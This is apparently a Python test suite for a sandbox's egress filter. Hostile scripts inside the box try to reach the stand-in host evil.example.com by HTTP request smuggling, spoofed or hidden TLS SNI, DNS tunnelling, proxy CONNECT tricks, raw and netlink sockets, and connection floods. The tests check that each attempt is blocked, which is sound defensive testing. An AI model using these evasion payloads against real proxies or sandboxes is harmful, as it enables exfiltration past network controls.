"""A hostile client in a box with egress tries to get out, or to reach another host than the one that it was allowed. It cannot."""

import socket
import subprocess
import threading

import kerntest
from egresscase import Egress
from egressworld import WEB
from kerntest import as_root_and_user, as_user, need

# What a script in the box has at hand. `say` opens the allowed host's port, sends the pieces, and prints what came back.
TOOLS = r'''
import errno, os, socket, ssl, struct, sys, time
def say(port, *pieces, wait=0.0, host="web.example.com"):
    s = socket.create_connection((host, port), 5)
    s.settimeout(1.5)
    got = b""
    try:
        for piece in pieces:
            s.sendall(piece)
            if wait: time.sleep(wait)
        while data := s.recv(65536): got += data
    except OSError as e:
        got += b"!" + errno.errorcode.get(e.errno, "timeout").encode()
    print(got.split(b"\r\n")[0] if got else b"(closed)")
def hello(name, extra=b"", piece=10000, sni=True):
    entry = struct.pack("!BH", 0, len(name)) + name
    sn = struct.pack("!HHH", 0, len(entry) + 2, len(entry)) + entry if sni else b""
    ext = b"\x0a\x0a\0\0" + sn + extra
    body = b"\3\3" + bytes(32) + b"\0\0\2\x13\1\1\0" + struct.pack("!H", len(ext)) + ext
    m = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"".join(b"\x16\3\1" + struct.pack("!H", len(m[i:i + piece])) + m[i:i + piece] for i in range(0, len(m), piece))
def proxy(*pieces):
    say(3128, *pieces, host="127.0.0.1")
H = b"Host: web.example.com\r\n"
EVIL = b"GET /evil HTTP/1.1\r\nHost: evil.example.com\r\n\r\n"
'''


class Recorder(threading.Thread):
    """A server of the allowed host that keeps all that reaches it."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.socket = socket.create_server((WEB, port))
        self.seen = b""
        self.start()

    def run(self):
        while True:
            try:
                peer, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.one, args=(peer,), daemon=True).start()

    def one(self, peer):
        try:
            with peer:
                peer.settimeout(10)
                while data := peer.recv(65536):
                    self.seen += data
                    if data.endswith(b"\r\n\r\n"):
                        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        except OSError:
            pass

    def close(self):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


class Attack(Egress):
    def attack(self, script, *, allow=("web.example.com", "web.example.com:8000"), ports=(80, 443, 8000)):
        need("python3")
        recorders = [Recorder(port) for port in ports]
        try:
            result = self.box("python3", "-c", TOOLS + script, options=["-q", *(f"--egress-allow={rule}" for rule in allow)],
                              seconds=60)
        finally:
            for recorder in recorders:
                recorder.close()
        self.assertEqual(result.code, 0, result)
        result.seen = b"".join(recorder.seen for recorder in recorders)
        self.assertNotIn(b"evil", result.seen, result)
        result.reasons = {row["reason"] for row in result.report["denied"]["hosts"]}
        return result


@as_root_and_user
class WaysOut(Attack):
    def test_other_ways_out(self):
        result = self.attack(r'''
def attempt(what, fn):
    try:
        fn(); print(what, "worked")
    except OSError as e:
        print(what, errno.errorcode[e.errno])
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(bytes(64), ("203.0.113.1", 0)))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08" + bytes(63), ("203.0.113.1", 0)))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.53", 53)))
attempt("quic", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::1", 443)))
def to_an_allowed_name():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((socket.gethostbyname("web.example.com"), 443))
    s.send(b"x"); s.settimeout(1); s.recv(9)
attempt("quic to an allowed name", to_an_allowed_name)
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0egress-test"))
def route():
    n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    n.send(struct.pack("=IHHIIBBBBBBBBIHHI", 36, 24, 0x405, 1, 0, 2, 0, 0, 0, 254, 4, 253, 1, 0, 8, 4, 1))
    code = struct.unpack("=i", n.recv(4096)[16:20])[0]
    if code: raise OSError(-code, "refused")
attempt("route", route)
def link():
    n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    n.send(struct.pack("=IHHIIBBHiII", 32, 16, 5, 1, 0, 0, 0, 0, 1, 0, 1))
    code = struct.unpack("=i", n.recv(4096)[16:20])[0]
    if code: raise OSError(-code, "refused")
attempt("link", link)
''')
        self.assertNotIn("worked", result.out, result)
        self.assertEqual(len(result.out.splitlines()), 10, result)


@as_user
class Hostile(Attack):
    def test_dns_tunnels(self):
        asked = len(self.names.asked)
        result = self.attack(r'''
def ask(name, kind=16):
    q = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" + struct.pack("!HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ("127.0.0.11", 53))
    return s.recv(4096)[3] & 15
print([ask(b"x" * 60 + b"." + b"%d" % i + b".tunnel.example.net", k) for i, k in enumerate((1, 16, 28, 15, 10, 255))])
print(ask(b"web.example.com", 16), ask(b"a\0b.example.com", 1), ask(b"web.example.com.evil.net", 1))
for junk in (b"", b"x", bytes(12), b"\xff" * 500, b"\0\7\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(junk, ("127.0.0.11", 53))
print(ask(b"web.example.com", 1))
''')
        self.assertEqual(result.out, "[3, 3, 3, 3, 3, 3]\n0 3 3\n0\n", result)
        self.assertEqual(len(self.names.asked), asked)

    def test_tls_that_names_another_or_nobody(self):
        result = self.attack(r'''
say(443, hello(b"evil.example.com"))
say(443, hello(b"evil.example.com", piece=7))
say(443, hello(b"", sni=False))
say(443, hello(b"web.example.com", b"\xfe\x0d\0\5\0evil"))
say(443, hello(b"web.example.com") + b"\x14\3\3\0\1\1" + hello(b"evil.example.com"))
say(443, hello(b"web.example.com\0evil"))
say(443, b"\x80\x2e\1\3\1evil")
say(443, b"evil\r\n\r\n")
say(8000, hello(b"evil.example.com"))
say(8000, hello(b"web.example.com", b"\0\0" + struct.pack("!HHBH", 21, 19, 0, 16) + b"evil.example.com"))
''')
        self.assertTrue({"TLS named another host", "TLS named no host", "TLS hides whom it names (encrypted ClientHello)",
                         "neither TLS nor HTTP on a port of web servers"} <= result.reasons, result)

    def test_slow_pieces(self):
        result = self.attack(r'''
say(443, *(bytes([c]) for c in hello(b"evil.example.com")), wait=0.02)
say(443, *(bytes([c]) for c in hello(b"web.example.com") + b"\x17\3\3\0\1x"), wait=0.01)
''')
        self.assertIn(b"web.example.com", result.seen)
        self.assertEqual(result.reasons, {"TLS named another host"}, result)

    def test_http_that_means_another(self):
        result = self.attack(r'''
GOOD = b"GET / HTTP/1.1\r\n" + H + b"\r\n"
for port in (80, 8000):
    say(port, EVIL)
    say(port, GOOD + EVIL)
    say(port, GOOD, EVIL, wait=0.3)
    say(port, b"\r\n" + EVIL)
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Content-Length: 4\r\n\r\nabcd" + EVIL)
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Content-Length: 4\r\nContent-Length: 90\r\n\r\nabcd" + EVIL)
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Content-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL)
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL)
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n3;evil\r\nabc\r\n0\r\n\r\n")
    say(port, b"POST / HTTP/1.1\r\n" + H + b"Transfer-Encoding: xchunked\r\n\r\n" + EVIL)
    say(port, b"GET / HTTP/1.1\r\n" + H + b"Host: evil.example.com\r\n\r\n")
    say(port, b"GET / HTTP/1.1\r\nHost: evil.example.com:80\r\n\r\n")
    say(port, b"GET http://evil.example.com/ HTTP/1.1\r\n" + H + b"\r\n")
    say(port, b"GET / HTTP/1.1\nHost: evil.example.com\n\n")
    say(port, b"GET / HTTP/1.1\r\n" + H + b"Upgrade: h2c\r\nX: evil\r\n\r\n")
    say(port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil")
    say(port, b"GET / HTTP/1.1\r\nX: " + b"a" * 100000 + b"\r\nHost: evil.example.com\r\n\r\n")
    say(port, b"GET / HTTP/1.1\r\n" + H + b"Upgrade: websocket\r\n\r\n", EVIL, wait=0.3)
for header in (b"PROXY TCP4 192.0.2.1 192.0.2.2 5 6\r\n", b"PROXY UNKNOWN\r\n", b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0"):
    for port in (80, 8000):
        say(port, header + EVIL)
        say(port, header + hello(b"evil.example.com"))
say(8000, b"PROXY UNKNOWN evil\r\n" + GOOD)
for warning in (b"\x15\x03\x01\0\x02\x01\x5a", b"\x15\x02\x01\0\x02\x01\0", b"\x15\x03\x03\0\x02\x01\x5a" * 2):  # which servers of Go pass over
    say(8000, warning + hello(b"evil.example.com"))
say(8000, b"\x16\x02" + hello(b"evil.example.com")[2:])
''')
        self.assertTrue({"HTTP named another host", "an HTTP request that cannot be checked"} <= result.reasons, result)

    def test_http_in_odd_writing(self):
        """What servers read differently is let through by nobody."""
        result = self.attack(r'''
HEAD = b"GET / HTTP/1.1\r\n" + H
POST = b"POST / HTTP/1.1\r\n" + H
for port in (80, 8000):
    for head in (b"Host : evil.example.com", b" Host: evil.example.com", b"X: y\r\n evil", b"X:\0evil", b"X: y\revil", b"X: y\nHost: evil.example.com",
                 b"Host:evil.example.com", b"evil", b"X\x0bevil: y", b"\x80evil: y"):
        say(port, HEAD + head + b"\r\n\r\n")
    for head in (b"Content-Length: +4", b"Content-Length: 0x4", b"Content-Length: 4, 4", b"Content-Length: 4 4", b"Content-Length: -4",
                 b"Content-Length : 4", b"Content-Length: 99999999999999999999", b"Content-Length:", b"Transfer-Encoding: chunked, chunked",
                 b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                 b"Transfer-Encoding: gzip, chunked", b"Transfer_Encoding: chunked\r\nContent-Length: 4\r\nContent-Length: 5"):
        say(port, POST + head + b"\r\n\r\nabcd" + EVIL)
    for chunk in (b"4;x\nabcd\r\n0\r\n\r\n", b"+4\r\nabcd\r\n0\r\n\r\n", b"0x4\r\nabcd\r\n0\r\n\r\n", b"fffffffffffffffff\r\n", b"4\r\nabcdXX0\r\n\r\n",
                  b"4\nabcd\n0\n\n", b"0\r\nHost: evil.example.com\r\n\r\n"):
        say(port, POST + b"Transfer-Encoding: chunked\r\n\r\n" + chunk + EVIL)
    for line in (b"GET / HTTP/0.9", b"GET /", b"GET / HTTP/1.2", b"GET / HTTP/2.0", b"GET /  HTTP/1.1", b"GET\t/ HTTP/1.1", b"GET / HTTP/1.1 evil",
                 b"GET http://web.example.com@evil.example.com/ HTTP/1.1", b"GET http://evil.example.com:80/ HTTP/1.1", b"GET https://evil.example.com/ HTTP/1.1",
                 b"CONNECT evil.example.com:443 HTTP/1.1", b"GET evil.example.com HTTP/1.1", b"GET *evil HTTP/1.1", b"get /\x7fevil HTTP/1.1", b"GET /\1evil HTTP/1.1",
                 b" GET /\xffevil HTTP/1.1"):
        say(port, line + b"\r\n" + H + b"\r\n")
    for host in (b"web.example.com:81", b"web.example.com:evil", b"web.example.com, evil.example.com", b"web.example.com evil.example.com", b"evil@web.example.com",
                 b"web.example.com.evil.example.com", b"web.example.com\0.evil.example.com", b"[::ffff:203.0.113.9]", b"203.0.113.9", b"", b"%77eb.example.com"):
        say(port, b"GET /evil HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
    say(port, b"GET /evil HTTP/1.0\r\n\r\n")
    say(port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
    say(port, b"GET /evil HTTP/1.1\r\n\r\n")
say(80, b"GET / HTTP/1.1\r\nhOST: WEB.Example.COM.:80\r\n\r\n")
''')
        self.assertEqual(result.seen.count(b"GET / HTTP/1.1\r\nhOST"), 1, result)

    def test_the_proxy_is_no_way_round(self):
        result = self.attack(r'''
proxy(b"CONNECT evil.example.com:443 HTTP/1.1\r\n\r\n")
proxy(b"CONNECT web.example.com:443 HTTP/1.1\r\n\r\n" + hello(b"evil.example.com"))
proxy(b"CONNECT web.example.com:80 HTTP/1.1\r\n\r\n" + EVIL)
proxy(b"CONNECT web.example.com:25 HTTP/1.1\r\n\r\n")
for host in (b"2130706433", b"0x7f000001", b"127.1", b"[::ffff:127.0.0.1]", b"127.0.0.1", b"203.0.113.1", b"web.example.com%00.evil",
             b"web.example.com@evil.example.com", b"[::1]"):
    proxy(b"CONNECT " + host + b":80 HTTP/1.1\r\n\r\n")
proxy(b"GET http://web.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
proxy(b"GET http://evil.example.com/ HTTP/1.1\r\nHost: web.example.com\r\n\r\n")
proxy(b"GET http://web.example.com/ HTTP/1.1\r\n" + H + b"\r\n" + b"GET http://evil.example.com/evil HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
proxy(EVIL)
proxy(b"GET ftp://web.example.com/ HTTP/1.1\r\n" + H + b"\r\n")
proxy(b"\x05\x01\x00")
''')
        lines = result.out.splitlines()
        self.assertEqual(lines[0], "b'HTTP/1.1 403 Forbidden'", result)
        self.assertEqual(set(lines[3:14]), {"b'HTTP/1.1 403 Forbidden'"}, result)

    def test_one_bad_address_among_many(self):
        """However many there are: those that there is no room for are judged as well."""
        for count in (3, 20, 100):
            self.names.names[f"many{count}.example.com"] = [("A", WEB)] * count + [("A", "10.9.8.7")]
        result = self.attack(r'''
for count in (3, 20, 100):
    name = "many%d.example.com" % count
    say(80, b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\n\r\n", host=name)
''', allow=("many3.example.com", "many20.example.com", "many100.example.com"))
        self.assertEqual(result.out, "b'!ECONNRESET'\n" * 3, result)
        self.assertEqual(result.reasons, {"the name leads to an address of this machine or its networks"}, result)

    def test_a_long_word_that_is_no_name(self):
        """It has one entry in the report, not one for each time, which would leave no room for others."""
        result = self.attack(r'''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.11", 53))
for name in [b"\x3f" + b"\1" * 63 + b"\x3f" + b"\2" * 63] * 600 + [b"\4evil\7example\3com"]:
    s.send(struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack("!BHH", 0, 1, 1))
    s.recv(600)
''')
        rows = result.report["denied"]["hosts"]
        self.assertEqual([row["count"] for row in rows], [600, 1], result)
        self.assertEqual(rows[1]["name"], "evil.example.com")

    def test_urgent_data(self):
        """Reads stop in front of it, and what stands behind goes on its way all the same."""
        result = self.attack(r'''
for i in range(20):
    s = socket.create_connection(("web.example.com", 8000), 5)
    s.sendall(b"\xff\n"); time.sleep(0.02)
    s.sendall(b"abc"); s.send(b"X", socket.MSG_OOB); s.sendall(b"def"); s.send(b"Y", socket.MSG_OOB); s.sendall(b"end\r\n\r\n")
    s.recv(1)  # the server has it
''')
        self.assertEqual(result.seen.count(b"end"), 20, result.seen)

    def test_memory_is_given_back(self):
        """What many connections made the worker keep is the machine's again when they have ended."""
        need("python3")
        recorder = Recorder(80)
        self.addCleanup(recorder.close)
        running = self.start("box", "-q", "--egress-allow=web.example.com", "--", "python3", "-c", TOOLS + r'''
held = [socket.create_connection(("web.example.com", 80)) for i in range(500)]
for s in held: s.setblocking(False); s.send(b"GET / HTTP/1.1\r\nX: " + b"a" * 60000)
last = socket.create_connection(("web.example.com", 80)); last.send(b"GET / HT")  # is kept behind all others, and stays
time.sleep(0.2)
print("held", flush=True); input()
for s in held: s.close()
print("closed", flush=True); input()
''', stdin=subprocess.PIPE)
        self.assertEqual(running.line(), "held\n")
        worker = kerntest.eventually(lambda: kerntest.processes(lambda pid: self.resident(pid, running.pid) > 25000))
        self.assertTrue(worker)
        running.process.stdin.write("\n")
        running.process.stdin.flush()
        self.assertEqual(running.line(), "closed\n")
        self.assertTrue(kerntest.eventually(lambda: self.resident(worker[0], running.pid) < 10000), self.resident(worker[0], running.pid))
        self.assertEqual(running.wait("\n").code, 0)

    @staticmethod
    def resident(pid, parent):
        """Kilobytes of a worker of this kern."""
        with open(f"/proc/{pid}/status", encoding="utf-8") as file:
            text = file.read()
        return int(text.split("VmRSS:")[1].split()[0]) if f"PPid:\t{parent}\n" in text and "Seccomp_filters:\t2" in text else 0

    def test_many_connections_end_nothing_but_themselves(self):
        result = self.attack(r'''
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
held = []
try:
    for i in range(1000): held.append(socket.create_connection(("web.example.com", 443), 5))
except OSError: pass
for s in held: s.close()
time.sleep(0.3)
say(80, b"GET / HTTP/1.1\r\n" + H + b"Connection: close\r\n\r\n", b"")
''')
        self.assertIn(b"GET / HTTP/1.1", result.seen)


if __name__ == "__main__":
    kerntest.main()
